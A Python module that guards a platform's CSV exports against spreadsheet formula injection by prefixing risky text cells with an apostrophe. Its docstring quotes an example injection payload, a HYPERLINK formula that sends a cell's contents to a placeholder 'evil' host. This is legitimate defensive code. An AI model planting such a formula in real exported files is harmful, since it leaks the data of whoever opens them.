"""CSV cells that spreadsheets will not run as formulas (CSV/formula injection, OWASP).

Excel, LibreOffice and Google Sheets evaluate a cell starting with `=`, `+`, `-` or `@` (and
some do after a leading tab or carriage return) as a formula: a listing title like
`=HYPERLINK("http://evil/?"&A1, "click")` in an exported file would run on the seller's machine.
Every CSV the platform writes goes through `safe_writer` (or `safe_cell`), which prefixes such a
cell with an apostrophe, the escape spreadsheets themselves use; the text stays readable.

Only text is escaped: numbers (int, Decimal, float) pass as they are, so a writer that wants a
negative quantity to stay a number hands over the number, not its text.
"""

from __future__ import annotations

import csv
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value, with a leading apostrophe when it is text a spreadsheet would evaluate."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def _safe_row(row, starts=FORMULA_STARTS) -> list:
    # `safe_cell` inlined: this runs once per cell of every exported row.
    return ["'" + v if isinstance(v, str) and v.startswith(starts) else v for v in row]


class SafeWriter:
    """`csv.writer` whose text cells are escaped; numbers (int, float, Decimal) pass as they are."""

    def __init__(self, fh, *args, **kwargs):
        self._writer = csv.writer(fh, *args, **kwargs)

    def writerow(self, row) -> Any:
        return self._writer.writerow(_safe_row(row))

    def writerows(self, rows) -> None:
        # One C-level loop over the rows (an export writes 10^5–10^6 of them).
        self._writer.writerows(map(_safe_row, rows))

    @property
    def dialect(self):
        return self._writer.dialect


def safe_writer(fh, *args, **kwargs) -> SafeWriter:
    return SafeWriter(fh, *args, **kwargs)
